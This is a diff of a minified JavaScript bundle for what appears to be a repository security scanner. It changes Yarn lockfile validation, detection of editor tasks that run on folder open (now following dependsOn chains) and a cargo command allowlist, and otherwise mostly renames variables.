+DependenciesMeta",SWITCHES2],["bin",{is:value=>isTable2(value,isInside),words:"a table of files of the package"}]]),METADATA=new Map([["version",text2(/^\d{1,3}$/,
+"a number")],["cacheKey",text2(/^[0-9a-z]+$/,"a key")]]),KNOWN2={classic:CLASSIC,berry:BERRY,metadata:METADATA};function unreadFields4(style,{entries}){const faults2=[];
+for(const[field3,{value}]of entries){const shape=KNOWN2[style].get(field3);shape===void 0?faults2.push({field:field3,reason:"isn't read, and Yarn may run or fet\
+ch what it says."}):shape.is(value)||faults2.push({field:field3,reason:`isn't ${shape.words}, so Yarn may read it in another way.`})}return faults2}function isTable2(value,isRight,names4=/./){
+return value.kind==="object"&&[...value.entries].every(([name,entry])=>names4.test(name)&&isRight(entry.value))}function isSwitch2(value){return value.kind==="s\
+tring"&&/^(?:true|false)$/.test(value.value)}function isInside(value){return value.kind==="string"&&!/^\/|(?:^|\/)\.\.(?:\/|$)|\\|^[A-Za-z]:/.test(value.value)}
+var COMMIT2=/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/,GITHUB_ARCHIVE=/^https:\/\/codeload\.github\.com\/([^/?#]+\/[^/?#]+)\/tar\.gz\/([0-9a-f]{40})$/;function addressSource({
+name,version},url){const[,repository,commit]=GITHUB_ARCHIVE.exec(url)??[];return repository!==void 0&&commit!==void 0?gitSource2(`https://github.com/${repository}`,
+commit):npmSource({name,version,resolved:url,local:!1})}function gitSource2(repository,commit,reference=""){const[,host,path]=/^[\w.-]+@([\w.-]+):(?!\/)(.+)$/.exec(
+repository)??[],address=host===void 0?repository:`ssh://git@${host}/${path}`,resolved4=/^git[:+]/.test(address)?address:`git+${address}`,source=npmSource({name:"",
+version:"",resolved:resolved4,local:!1});return source.kind!=="git"?{kind:"unknown",text:repository}:{...source,commit:commit!==null&&COMMIT2.test(commit)?commit:
+null,reference}}function fileSource(path){return{kind:"tarball",url:`file:${path}`}}function isArchivePath(path){return/\.(?:tgz|tar|tar\.gz)$/i.test(path)}var DEEPEST9=8,
+MOST_PATCHES=16,REFERENCE=/^([^#:]*:)?((?:(?!::)[^#])*)(?:#((?:(?!::).)*))?(?:::(.*))?$/,LOCATOR=/^((?:@[^/]+?\/)?[^@/]+?)@(.+)$/,OWN_PROTOCOL=/^(?:npm|workspace|link|portal|file|patch|exec):/,
+BUILTIN=/^(?:optional!|~)?builtin<compat\/[a-z-]+>$/,ARCHIVE=/^https?:\/\/[^?#]+\.(?:tgz|tar\.gz)(?:\?[^#]*)?$/;function located(locator,version,depth=0){const[
+,name,text3]=LOCATOR.exec(locator)??[];if(name===void 0||text3===void 0||depth>DEEPEST9)return null;if(!OWN_PROTOCOL.test(text3)&&/#(?:[^#]*&)?commit=/.test(text3))
+return gitAt(name,text3);const parts2=partsOf10(text3);return parts2===null?null:byProtocol({name,text:text3,version,...parts2},depth)}function byProtocol(reference,depth){
+const{name,version,text:text3,selector,params,source}=reference;switch(reference.protocol){case"npm:":return source===null?releaseAt(name,selector,params):null;case"\
+workspace:":return source===null&&has2(params)?folderAt2(name,pathFrom("",selector),"project"):null;case"link:":case"portal:":return source===null&&has2(params,
+"locator")?folderAt2(name,pathIn(reference,depth),"soft"):null;case"file:":return has2(params,"hash","locator")?fileAt(reference,depth):null;case"patch:":return has2(
+params,"version","hash","locator")?patchedAt(reference,depth):null;case"exec:":return packageAt2(name,{kind:"unknown",text:text3});case"https:":case"http:":return ARCHIVE.
+test(text3)||/^https:\/\/codeload\.github\.com\//.test(text3)?packageAt2(name,addressSource({name,version},text3)):null;default:return null}}function partsOf10(text3){
+const[,protocol="",body="",selector,query]=REFERENCE.exec(text3)??[],params=paramsIn(query);try{const source=selector===void 0?null:decodeURIComponent(body);return params&&
+{protocol,source,selector:decodeURIComponent(selector??body),params}}catch{return null}}function paramsIn(query){const pairs=[...new URLSearchParams(query??"")],
+params=new Map(pairs);return params.size===pairs.length?params:null}function has2(params,...known13){return[...params.keys()].every(name=>known13.includes(name))}
+function packageAt2(name,source,version=null){return{name,source,version,kind:"package",isSoft:!1,target:null,patches:[]}}function releaseAt(name,version,params){
+if(!isVersion(version)||!has2(params,"__archiveUrl"))return null;const archive=params.get("__archiveUrl");return packageAt2(name,archive?addressSource({name,version},
+archive):import_shared_ce.OWN_REGISTRY,version)}function gitAt(name,text3){const[repository="",...rest2]=text3.split("#"),params=new URLSearchParams(rest2.join(
+"#")),commits=params.getAll("commit");return params.delete("commit"),params.sort(),packageAt2(name,gitSource2(repository,commits.length===1?commits[0]??null:null,
+`${params}`))}function folderAt2(name,target,as){if(target===null)return null;const kind=as==="project"?"project":"package";return{...packageAt2(name,import_shared_ce.THIS_REPOSITORY),
+kind,isSoft:as!=="copied",target}}function fileAt(reference,depth){const path=reference.source===null||reference.source===reference.selector?pathIn(reference,depth):
+null;return path===null||!isArchivePath(path)?folderAt2(reference.name,path,"copied"):packageAt2(reference.name,fileSource(path))}function pathIn({selector,params},depth){
+const folder=askingFolder(params,depth);return folder===null?null:pathFrom(folder,selector)}function askingFolder(params,depth){const parent=params.get("locator");
+return parent===void 0?"":located(parent,"",depth+1)?.target??null}function patchedAt({source,version,selector,params},depth){const written6=selector.split("&",
+MOST_PATCHES+1);if(written6.length>MOST_PATCHES)return null;const inner=source===null?null:located(source,version,depth+1);if(inner===null||inner.kind==="projec\
+t")return null;const folder=askingFolder(params,depth),paths3=written6.filter(patch=>!BUILTIN.test(patch)).map(patch=>patchPath(patch,folder)),patches=paths3.filter(
+path=>path!==null);return patches.length<paths3.length?null:{...inner,kind:"patched",patches:[...inner.patches,...patches]}}function patchPath(written6,folder){
+const patch=written6.slice(written6.lastIndexOf("!")+1);return patch===""||/[<>]/.test(patch)?null:patch.startsWith("~/")?pathFrom("",patch.slice(2)):folder===null?
+null:pathFrom(folder,patch)}var OF_FOLDER="0.0.0",OF_FOLDER_IN_BERRY="0.0.0-use.local";function berryEntries(block,cacheKey){const faults2=unreadFields4("berry",
+block.fields),text3=field3=>asString(member(block.fields,field3)),[locator,version]=[text3("resolution")??"",text3("version")??""],found12=located(locator,version);
+if(found12===null)return faults2.push({field:"resolution",reason:"says nothing that Yarn is known to write."}),{entries:[],faults:faults2};const fault=faultOf4(
+block,found12,version);fault!==void 0&&faults2.push(fault);const{name,source,kind,target}=found12,at2=member(block.fields,"resolution")?.at??block.fields.at;return{
+entries:[{block,locator,name,source,kind,target,descriptors:block.descriptors,version:found12.version??(found12.isSoft?OF_FOLDER:version),integrity:keyed(text3(
+"checksum"),cacheKey),wants:wantsOf(block),patches:found12.patches.map(value=>({name:"patch",value,at:at2,of:name}))}],faults:faults2}}function keyed(checksum,cacheKey){
+return checksum===void 0?null:checksum.includes("/")||cacheKey===void 0?checksum:`${cacheKey}/${checksum}`}function faultOf4(block,found12,version){if(!isPackageName(
+found12.name))return{field:"resolution",reason:"names no package that could be published."};if(isUnpinned(found12.source))return{field:"resolution",reason:"name\
+s no commit that pins it."};if(asString(member(block.fields,"linkType"))!==(found12.isSoft?"soft":"hard"))return{field:"linkType",reason:"isn't what Yarn writes\
+ for such a package."};if(!((found12.isSoft?version===OF_FOLDER_IN_BERRY:isVersion(version))&&(found12.version??version)===version))return{field:"version",reason:"\
+isn't the version that Yarn would write there."}}function wantsOf(block){const wanted=member(block.fields,"dependencies");return wanted?.kind!=="object"?[]:[...wanted.
+entries].map(([name,{value}])=>{const isOptional=asString(pick(block.fields,"dependenciesMeta",name,"optional"))==="true";return{name,text:asString(value)??"",isOptional}})}
+function classicEntries(block){const faults2=unreadFields4("classic",block.fields),byName4=Map.groupBy(block.descriptors,realName),entries=[];for(const[name,descriptors]of byName4){
+isPackageName(name)||faults2.push({field:null,reason:"asks for no package that could be published."});const entry=entryOf4(block,name,descriptors),fault=faultOf5(
+entry);fault!==void 0&&faults2.push(fault),entries.push(entry)}return{entries,faults:faults2}}function realName(descriptor){const{name,text:text3}=asked(descriptor)??
+{name:descriptor,text:""};return/^npm:(@?[^@]*)/.exec(text3)?.[1]??name}function entryOf4(block,name,descriptors){const text3=field3=>asString(member(block.fields,
+field3)),[version,resolved4]=[text3("version")??"",text3("resolved")],target=resolved4===void 0?folderOf2(descriptors):null,source=target===null?sourceOf5({name,
+version},resolved4??""):import_shared_ce.THIS_REPOSITORY;return{block,descriptors,name,version,source,target,kind:"package",locator:null,patches:[],integrity:integrityOf(
+text3("integrity"),resolved4,source),wants:wantsOf2(block)}}function folderOf2(descriptors){const folders=new Set(descriptors.map(folderIn2)),[folder=null]=folders;
+return folders.size===1?folder:null}function folderIn2(descriptor){const[,path]=/^(?:file:|link:|(?=\.{1,2}\/))(.*)$/.exec(asked(descriptor)?.text??"")??[];return path===
+void 0?null:pathFrom("",path)}function sourceOf5(release,resolved4){const[url="",hash=null]=resolved4.split("#");if(/^(?:git(?:\+[a-z0-9]+)?|ssh):/.test(url)||url.
+endsWith(".git")&&!url.includes("?"))return gitSource2(url,hash);if(!url.startsWith("file:"))return addressSource(release,url);const path=pathFrom("",url.slice(
+5));return path===null?{kind:"unknown",text:url}:fileSource(path)}function integrityOf(written6,resolved4,source){if(written6!==void 0)return isIntegrity(written6)?
+written6:null;const sha1=/^[^#]*#([0-9a-f]{40})(?:#|$)/.exec(resolved4??"")?.[1];return sha1===void 0||source.kind==="git"?null:`sha1-${base64(sha1)}`}function base64(hex){
+const bytes=Array.from({length:hex.length/2},(_3,at2)=>Number.parseInt(hex.slice(2*at2,2*at2+2),16));return btoa(String.fromCharCode(...bytes))}function wantsOf2(block){
+return[["dependencies",!1],["optionalDependencies",!0]].flatMap(([table2,isOptional])=>{const wanted=member(block.fields,table2);return wanted?.kind!=="object"?
+[]:[...wanted.entries].map(([name,{value}])=>({name,text:asString(value)??"",isOptional}))})}function faultOf5({block,version,source,target}){if(!isVersion(version))
+return{field:"version",reason:"isn't a version."};if(isUnpinned(source))return{field:"resolved",reason:"names no commit that pins it."};if(!(target!==null||member(
+block.fields,"resolved")!==void 0))return{field:null,reason:"has no address (`resolved`), so that Yarn takes the newest release that fits."}}var MOST_GAPS=1e3,RELATIVE_TO="\
+::locator=",LONGEST_TOLD=200,MOST_GUESSES=8,YarnGraph=class{#file;#style;#drafts=new Map;#keys=new Map;#counts=new Map;#answers=new Map;#relative=new Map;#encoded=new Map;#byName=null;#projects=new Map;#locators=new Map;#entries;#gaps=[];constructor(file2,style,entries){
 this.#file=file2,this.#style=style;const isPatched=({kind})=>kind==="patched";this.#entries=[...entries.filter(each=>!isPatched(each)),...entries.filter(isPatched)];
 const holders=this.#entries.map(entry=>this.#hold(entry));this.#refuseSameLocators();const missing2=new Map;for(const[index,entry]of this.#entries.entries())this.#follow(
 entry,holders[index],missing2);const unasked=this.#unasked(missing2);for(const[descriptor,entry]of missing2)this.#tellMissing(descriptor,entry,unasked)}read(){return{
@@ -5744,16 +5766,16 @@ block},unasked){if(this.#gaps.length>MOST_GAPS)return;const message=`The entry $
 kind:"not-followed",rests,message,blocking}))}#settings(){const length=({locator})=>locator?.length??0,patched=this.#entries.filter(({patches})=>patches.length>
 0),byPath2=new Map;for(const{patches}of patched.toSorted((one3,other)=>length(one3)-length(other)))for(const patch of patches)byPath2.has(patch.value)||byPath2.
 set(patch.value,patch);return[...byPath2.values()].sort((one3,other)=>(0,import_shared_acegos.comparePlaces)(one3.at,other.at))}};function isRange(descriptor){return!/[@:/]/.
-test(asked(descriptor)?.text.replace(/^npm:/,"")??"@")}function nameIn5(descriptor){return asked(descriptor)?.name??descriptor}function keysByName(answers){const byName3=new Map;
-for(const[descriptor,key3]of answers){const keys=byName3.get(nameIn5(descriptor))??[];key3!==null&&keys.length<MOST_GUESSES&&keys.push(key3),byName3.set(nameIn5(
-descriptor),keys)}return byName3}function isSame2(one3,other){return one3.version===other.version&&one3.integrity===other.integrity&&(0,import_shared_ce.isSameSource)(
+test(asked(descriptor)?.text.replace(/^npm:/,"")??"@")}function nameIn5(descriptor){return asked(descriptor)?.name??descriptor}function keysByName(answers){const byName4=new Map;
+for(const[descriptor,key3]of answers){const keys=byName4.get(nameIn5(descriptor))??[];key3!==null&&keys.length<MOST_GUESSES&&keys.push(key3),byName4.set(nameIn5(
+descriptor),keys)}return byName4}function isSame2(one3,other){return one3.version===other.version&&one3.integrity===other.integrity&&(0,import_shared_ce.isSameSource)(
 one3.source,other.source)}function keyOf3({name,version,source,target}){return source.kind==="registry"?`${name}@${version}`:`${name}@${(0,import_shared_ce.sourceText)(
 source)}${target===null?"":` ${target}`}`}function packageOf2({entry,names:names4,needs}){const{block,name,version,source,kind,target,locator}=entry,isClassic2=locator===
 null,placeOf12=field3=>member(block.fields,field3)?.at,at2=block.fields.at,commands2=member(block.fields,"bin"),sourceAt=placeOf12(isClassic2?"resolved":"resolu\
 tion")??at2;return{name,version,source,target,at:at2,integrity:kind==="patched"?null:entry.integrity,isArchiveHash:isClassic2,hasInstallScript:null,...isClassic2?
 {}:{declared:(0,import_shared_acegos.wordsOf)("commands",commands2&&plain(commands2))},scope:{isDev:!1,isOptional:!isClassic2&&member(block.fields,"conditions")!==
 void 0},names:[...names4],needs:[...needs],lines:{version:placeOf12("version")??at2,source:sourceAt,checksum:placeOf12(isClassic2?"integrity":"checksum")??(isClassic2?
-sourceAt:at2)}}}var MOST_LINES3=1e6,LONGEST_LINE3=65536,LONGEST_BLOCK=2e4,MOST_DUPLICATES=100,DEEPEST10=3,ODD2=/[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]|\r(?!\n)/,
+sourceAt:at2)}}}var MOST_LINES4=1e6,LONGEST_LINE3=65536,LONGEST_BLOCK=2e4,MOST_DUPLICATES=100,DEEPEST10=3,ODD2=/[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]|\r(?!\n)/,
 QUOTED='"([^"\\\\]*)"',WORD4={classic:'(?!true|false)[A-Za-z][^:\\s\\\\",[\\]]*',berry:"[^-?:,\\][{}#&*!|>'\"%@` ](?: *[^,\\][{}:# ])*"},FIELD={classic:new RegExp(
 `^ +(?:(${WORD4.classic})|${QUOTED})(?::|( )(?:(${WORD4.classic})|${QUOTED}))$`),berry:new RegExp(`^ +(?:(${WORD4.berry})|${QUOTED}):(?:( )(?:(${WORD4.berry})|${QUOTED}\
 ))?$`)},BARE={classic:new RegExp(`^${WORD4.classic}$`),berry:new RegExp(`^${WORD4.berry}$`)},CLASSIC_DESCRIPTOR=new RegExp(`(?:(${WORD4.classic})|${QUOTED})(?:,\
@@ -5764,7 +5786,7 @@ THIS FILE DIRECTLY.
 file2).read()}var LineReader2=class{#path;#lines;#style;#blocks=[];#duplicates=[];#open=[];#at=0;constructor({path,text:text3}){this.#path=path;const odd=ODD2.exec(
 text3);if(!text3.isWellFormed())throw new Unreadable("It has half of a character.",0);if(odd!==null)throw new Unreadable("A character is none that Yarn writes.",
 odd.index);if(this.#lines=text3.split(`
-`,MOST_LINES3+1),this.#lines.length>MOST_LINES3)throw new Unreadable("It has too many lines.",text3.length);if(this.#lines.at(-1)!=="")throw new Unreadable("Its\
+`,MOST_LINES4+1),this.#lines.length>MOST_LINES4)throw new Unreadable("It has too many lines.",text3.length);if(this.#lines.at(-1)!=="")throw new Unreadable("Its\
  last line has no end.",text3.length);const header=`${this.#line(0)}
 ${this.#line(1)}`,style=HEADERS.get(header);if(style===void 0)throw new Unreadable("It doesn't begin as Yarn begins a lockfile.",0);for(this.#style=style,this.#at=
 2;style==="classic"&&VERSIONS.test(this.#line(this.#at));)this.#at+=1}read(){let isAfterBlank=!1;for(;this.#at<this.#lines.length;this.#at+=1){const line=this.#line(
@@ -5785,8 +5807,8 @@ rn would write it.");this.#open.push(made2)}#set(name,field3){const entries=this
 key}),this.#duplicates.length>MOST_DUPLICATES)throw this.#refused("Too many fields stand twice.");if(field3.key.line-(this.#open[0]?.at.line??0)>LONGEST_BLOCK)throw this.#refused(
 "The package is too long.");entries?.set(name,field3)}#close(depth){if(this.#open.length!==depth){if(this.#open.at(-1)?.entries.size===0)throw this.#refused("Th\
 ere is nothing in the table above.");this.#open.length=depth}}#word(bare2,quoted4){if(quoted4===void 0)return bare2??"";if(BARE[this.#style].test(quoted4))throw this.#refused(
-"Yarn writes no quotes where none are needed.");return quoted4}#refused(message){const before2=this.#lines.slice(0,this.#at).map(line=>line.length+1);return new Unreadable(
-message,before2.reduce((sum,length)=>sum+length,0))}#place(column){return{path:this.#path,line:this.#at+1,column,endLine:this.#at+1}}};function indentOf(line){let indent=0;
+"Yarn writes no quotes where none are needed.");return quoted4}#refused(message){const before3=this.#lines.slice(0,this.#at).map(line=>line.length+1);return new Unreadable(
+message,before3.reduce((sum,length)=>sum+length,0))}#place(column){return{path:this.#path,line:this.#at+1,column,endLine:this.#at+1}}};function indentOf(line){let indent=0;
 for(;line.charCodeAt(indent)===SPACE4;)indent+=1;return indent}var SPACE4=32,NOT_YARNS="The line is none that Yarn writes.",[OLDEST2,NEWEST3]=[4,10],LONGEST6=32*
 1024*1024;function readYarnLock(file2){const lock=read6.get(file2)??lockIn4(file2);return read6.set(file2,lock),lock}var read6=new WeakMap;function lockIn4(file2){
 if(file2.text==="")return empty3(file2.path,"",[]);if(file2.text.length>LONGEST6)return tooLarge(file2);try{return modelOf2(file2,yarnLines(file2))}catch(error){
@@ -6213,12 +6235,12 @@ if(found12!==void 0){const asked4=askedFrom(location,lock.path);if([text3,...ove
 each,found12,asked4)&&(isRecorded2||!isMoving(each)))||isRecorded2&&isMoving(text3))return}const has4=found12===void 0?"doesn't have it":`has ${(0,import_shared_acegpst.code)(
 `${found12.name} ${found12.version}`)}`;return{domain:"packages",kind:"unpinned-package",ecosystem:"npm",name,wanted:`${name}@${text3}`,from:sourceOf6(text3),lock:{
 path:lock.path,has:has4},at:at2}}function isTakenFor(lock,location,text3,found12){if(lock.version!==1||isInstalled(location))return!1;const isTag=/^[\w.-]*$/.test(
-text3.trim());return isAnsweredBy(text3,found12,askedFrom(location,lock.path))||isTag&&found12.source.kind==="registry"}function neededArchives(base,head){const before2=packagesIn3(
-base),inBase=new Set(before2.map(identityOf4)),known13=Map.groupBy(before2,({name})=>name),mayRun2=scriptsMayRun(base,head);return packagesIn3(head).filter(each=>!inBase.
+text3.trim());return isAnsweredBy(text3,found12,askedFrom(location,lock.path))||isTag&&found12.source.kind==="registry"}function neededArchives(base,head){const before3=packagesIn3(
+base),inBase=new Set(before3.map(identityOf4)),known13=Map.groupBy(before3,({name})=>name),mayRun2=scriptsMayRun(base,head);return packagesIn3(head).filter(each=>!inBase.
 has(identityOf4(each))&&mayRun2(each)).flatMap(each=>{const old=known13.get(each.name)??[],need=needOf2(each,old.length===0?"new name":"known name");return need===
 void 0?[]:[need,...old.flatMap(other=>needOf2(other,"before")??[])]})}function packagesIn3(grants){return grants.filter(grant2=>grant2.domain==="packages"&&grant2.
-kind==="package")}function scriptsMayRun(base,head){const before2=new Map(policiesIn(base).map(policy=>[policy.folder,policy])),stricter=new Set(policiesIn(head).
-flatMap(policy=>(0,import_shared_ce.stricterThan)(before2.get(policy.folder),policy).map(installer=>`${installer} ${policy.folder}`)));return({manager,outcome:outcome2,
+kind==="package")}function scriptsMayRun(base,head){const before3=new Map(policiesIn(base).map(policy=>[policy.folder,policy])),stricter=new Set(policiesIn(head).
+flatMap(policy=>(0,import_shared_ce.stricterThan)(before3.get(policy.folder),policy).map(installer=>`${installer} ${policy.folder}`)));return({manager,outcome:outcome2,
 at:at2})=>outcome2==="runs"||manager==="npm"||stricter.has(`${manager} ${folderOf(at2.path)}`)}function policiesIn(grants){return grants.filter(grant2=>grant2.domain===
 "packages"&&grant2.kind==="install-policy")}function identityOf4({name,version,source,checksum}){return JSON.stringify([name,version,checksum??(0,import_shared_ce.sourceText)(
 source)])}function needOf2({asks},risk){return asks?.kind==="npm package"?{...asks,risk}:void 0}function archiveNeed({name,version,source,integrity,target}){if(!(!(0,import_shared_ce.isOwnRegistry)(
@@ -6312,12 +6334,16 @@ ect"?[...features.entries]:[],image=member(value,"image"),rights2=[...itemsOf(me
 "workspaceMount","runArgs"].flatMap(name=>{const all=member(value,name);return all===void 0?[]:textsIn3(all).filter(text3=>OF_MACHINE2.test(text3.value))})];return[
 ...commands2,...named12.map(([name,{key:key3}])=>({by,says:`feature ${withoutTag(name)}`,at:key3})),...image?.kind==="string"&&!isKeptImage(image.value)?[{by,says:`\
 image ${withoutTag(image.value)}`,at:image.at}]:[],...rights2.map(each=>({by,says:asString(each)??"",at:each.at,isGrave:!0}))]}function withoutTag(name){return name.
-replace(/:[^:/]*$/,"")}function tasks(value){return itemsOf(member(value,"tasks")).flatMap(task=>{if(asString(member(member(task,"runOptions"),"runOn"))!=="fold\
-erOpen")return[];const started2=[task,...SYSTEMS.map(system=>member(task,system))].flatMap(each=>taskIn(each,task));return started2.length>0?started2:[{by:"a ta\
-sk of the editor",says:asString(member(task,"label"))??"a task",at:task.at}]})}var SYSTEMS=["windows","osx","linux"];function taskIn(of2,task){const line=member(
-of2,"command"),text3=asString(line);if(text3===void 0)return[];const args=stringsOf(member(of2,"args")??member(task,"args")).map(each=>each.value);return[{by:"a\
- task of the editor",script:scriptAt([text3,...args.map(inShell3)].join(" "),"posix",line?.at??task.at)}]}var NAMES_PROGRAM3=/(?:path|executable|command|runtime|interpreter|server|profiles?|tsdk)(?:\.|$)/i,
-IN_REPOSITORY2=/\$\{workspace|^\.{1,2}[\\/]|^(?!node_modules\/)[\w.-]+\/(?!\/)/,COMMAND_LINE=/(?:overrideCommand|\.profiles\.|\.command$|shellCommand)/i,USUAL3=/^(?:cargo (?:clippy|check|fmt|component)|rustfmt|leptosfmt)\b/,
+replace(/:[^:/]*$/,"")}function tasks(value){const all=itemsOf(member(value,"tasks")),named12=Map.groupBy(all,nameOf5),todo=all.filter(task=>asString(member(member(
+task,"runOptions"),"runOn"))==="folderOpen"),started2=new Set;for(let task=todo.pop();task!==void 0;task=todo.pop())started2.has(task)||(started2.add(task),todo.
+push(...before2(task).flatMap(name=>named12.get(name)??[])));return all.filter(task=>started2.has(task)).flatMap(startsOf4)}function startsOf4(task){const commands2=[
+task,...SYSTEMS.map(system=>member(task,system))].flatMap(each=>taskIn(each,task));return commands2.length>0?commands2:[{by:"a task of the editor",says:[nameOf5(
+task),asString(member(task,"script"))].filter(each=>each!==void 0).join(": ")||"a task",at:task.at}]}function nameOf5(task){return asString(member(task,"label")??
+member(task,"taskName"))}function before2(task){const waited=member(task,"dependsOn");return waited===void 0?[]:textsIn3(waited).map(text3=>text3.value)}var SYSTEMS=[
+"windows","osx","linux"];function taskIn(of2,task){const line=member(of2,"command"),text3=asString(line);if(text3===void 0)return[];const args=stringsOf(member(
+of2,"args")??member(task,"args")).map(each=>each.value);return[{by:"a task of the editor",script:scriptAt([text3,...args.map(inShell3)].join(" "),"posix",line?.
+at??task.at)}]}var NAMES_PROGRAM3=/(?:path|executable|command|runtime|interpreter|server|profiles?|tsdk)(?:\.|$)/i,IN_REPOSITORY2=/\$\{workspace|^\.{1,2}[\\/]|^(?!node_modules\/)[\w.-]+\/(?!\/)/,
+COMMAND_LINE=/(?:overrideCommand|\.profiles\.|\.command$|shellCommand)/i,USUAL3=/^(?:cargo (?:clippy|check|fmt|component)|rustfmt|leptosfmt)(?: (?!--config\b|-Z)[\w.:=,/-]+)*$/,
 BY="the editor";function editor(value){return value.kind!=="object"?[]:[...value.entries].flatMap(([name,{value:said2}])=>/(?:\.env(?:\.\w+)?|[eE]xtraEnv)$/.test(
 name)?variablesIn4(BY,said2):COMMAND_LINE.test(name)?commandLines(name,said2):NAMES_PROGRAM3.test(name)?textsIn3(said2).flatMap(text3=>IN_REPOSITORY2.test(text3.
 value)?[{by:BY,says:`${name}: ${text3.value}`,at:text3.at}]:[]):[])}function commandLines(name,value){return/\.profiles\./.test(name)&&value.kind==="object"?[...value.
@@ -6338,7 +6364,7 @@ function unreadStarts(file2){if(isShell(file2.path)||isOfOtherLanguage(file2.pat
 is file can't be read, so it isn't known what it starts for whoever opens the repository: ${parsed10.message}`;return(0,import_shared_acegos.gapAt)(parsed10.at,
 {kind:"unparsed",rests:(0,import_shared_acegos.contentOf)(file2),message})}function startsIn(file2){const{path}=file2;if(isShell(path))return[{by:(0,import_shared_acegpst.code)(
 path),script:scriptOf(file2,"posix")}];if(isOfOtherLanguage(path))return[{by:(0,import_shared_acegpst.code)(path),says:`code ${hashOf(file2.text)}`,at:{path,line:1,
-column:1,endLine:1}}];const parsed10=parsedIn(file2);return parsed10.ok?startsOf4(path,parsed10.value):[]}function startsOf4(path,value){const name=baseName(path);
+column:1,endLine:1}}];const parsed10=parsedIn(file2);return parsed10.ok?startsOf5(path,parsed10.value):[]}function startsOf5(path,value){const name=baseName(path);
 return name==="tasks.json"?tasks(value):/^\.?devcontainer\.json$/.test(name)?container(value):/lefthook/.test(name)?lefthook(value):/^\.pre-commit-config\.ya?ml$/.
 test(name)?preCommit(value):path.endsWith(".vscode/settings.json")?editor(value):name.endsWith(".code-workspace")?ofWorkspace(value):name==="environment.json"||
 name===".gitpod.yml"?environment(value):[...name==="rust-analyzer.toml"||path.endsWith(".zed/settings.json")?editorTree(value):[],...servers(value),...hooks(value),
@@ -6360,8 +6386,8 @@ const attributes2=[...innerAttributes(source,wholeOf(source)),...attributesOfSta
 ...attributesOfStatement(source,open)):attributes2.push(...attributesBefore(source,item.keyword),...innerAttributes(source,item.body));return attributes2.flatMap(
 each=>requirementsOf2(source,each))}function requirementsOf2(source,{from}){if(!isKeyword(source.tokens[from],"cfg")||!isOpen(source.tokens[from+1],"("))return[];
 const[predicate]=argumentsAt(source,from+1);return predicate===void 0?[]:neededFor(source,predicate,0)}var DEEPEST11=32,NEVER={kind:"never",name:"any()"};function neededFor(source,predicate,depth){
-const{tokens}=source,[word2,next2]=[tokens[predicate.from],tokens[predicate.from+1]];if(word2?.kind!=="word"||depth>DEEPEST11)return[];if(isOpen(next2,"(")){const parts=argumentsAt(
-source,predicate.from+1).map(part=>neededFor(source,part,depth+1));return word2.text==="all"?parts.flat():word2.text==="any"?neededByEach(parts):[]}return word2.
+const{tokens}=source,[word2,next2]=[tokens[predicate.from],tokens[predicate.from+1]];if(word2?.kind!=="word"||depth>DEEPEST11)return[];if(isOpen(next2,"(")){const parts2=argumentsAt(
+source,predicate.from+1).map(part=>neededFor(source,part,depth+1));return word2.text==="all"?parts2.flat():word2.text==="any"?neededByEach(parts2):[]}return word2.
 text==="feature"&&isMark(next2,"=")?[{kind:"feature",name:tokens[predicate.from+2]?.text??""}]:word2.text==="test"?[{kind:"test",name:"test"}]:word2.text==="deb\
 ug_assertions"?[{kind:"debug",name:"debug_assertions"}]:isKeyword(word2,"false")?[NEVER]:[]}function neededByEach([first,...others]){return first===void 0?[NEVER]:
 first.filter(({kind,name})=>others.every(part=>part.some(each=>each.kind===kind&&each.name===name)))}var KNOWN3=/^(?:target_\w+|all|any|debug_assertions|desktop|dev|doc|doctest|false|feature|miri|mobile|not|overflow_checks|panic|proc_macro|test|true|unix|windows)$/;
@@ -6422,15 +6448,15 @@ given2.length===1?expressionIn(source,only2):void 0,isCode4=argument2?.kind==="t
 var DEEPEST13=64;function moduleFiles({name,path:always,maybe,within:within6},path,ownsFolder){if(within6.length>DEEPEST13)return[null];let named12=folderOf(path),
 unnamed2=ownsFolder?named12:path.replace(/\.[^./]*$/,"");for(const module2 of within6){const next2=module2.path===null?below4(unnamed2,module2.name):below4(named12,
 module2.path);named12=next2,unnamed2=next2}const byPath2=each=>{const found12=each===null?null:below4(named12,each);return found12===null?null:{path:found12,ownsFolder:!0}};
-if(always!==void 0)return[byPath2(always)];const byName3=(ending,ownsFolder2)=>{const found12=below4(unnamed2,`${name}${ending}`);return found12===null?null:{path:found12,
-ownsFolder:ownsFolder2}};return[...maybe.map(byPath2),byName3(".rs",!1),byName3("/mod.rs",!0)]}function below4(folder,path){return folder===null?null:joined(folder,
-path)}function includedPath(argument2,path,crate2){const parts=argument2===void 0?void 0:partsOf11(argument2);if(parts===void 0)return;const[first,...rest2]=parts,
+if(always!==void 0)return[byPath2(always)];const byName4=(ending,ownsFolder2)=>{const found12=below4(unnamed2,`${name}${ending}`);return found12===null?null:{path:found12,
+ownsFolder:ownsFolder2}};return[...maybe.map(byPath2),byName4(".rs",!1),byName4("/mod.rs",!0)]}function below4(folder,path){return folder===null?null:joined(folder,
+path)}function includedPath(argument2,path,crate2){const parts2=argument2===void 0?void 0:partsOf11(argument2);if(parts2===void 0)return;const[first,...rest2]=parts2,
 below9=rest2.join("");return first!==CRATE?joined(folderOf(path),(first??"")+below9):/^[/\\]/.test(below9)?joined(crate2,below9.slice(1)):void 0}var CRATE=Symbol(
 "CARGO_MANIFEST_DIR");function partsOf11(argument2){if(argument2.kind==="text")return[argument2.value];if(argument2.kind!=="macro")return;const[only2,...others]=argument2.
 arguments,name=argument2.path.at(-1);if(name==="env")return others.length===0&&only2?.kind==="text"&&only2.value==="CARGO_MANIFEST_DIR"?[CRATE]:void 0;if(name!==
-"concat")return;const parts=argument2.arguments.map(partsOf11);return parts.every(part=>part!==void 0)?parts.flat():void 0}function walkCode(project,crate2){const walk2=new CodeWalk(
-project,crate2);return walk2.roots(),walk2.read()}function walkFrom(project,crate2,path){const walk2=new CodeWalk(project,crate2);return walk2.go(path,!0,[],(0,import_shared_acegos.topOf)(
-path)),walk2.read()}var MOST_FILES2=2e4,MOST_GAPS3=50,CodeWalk=class{#project;#crate;#requires=new Map;#gaps=new Map;#beyond=[];#todo=[];constructor(project,crate2){
+"concat")return;const parts2=argument2.arguments.map(partsOf11);return parts2.every(part=>part!==void 0)?parts2.flat():void 0}function walkCode(project,crate2){
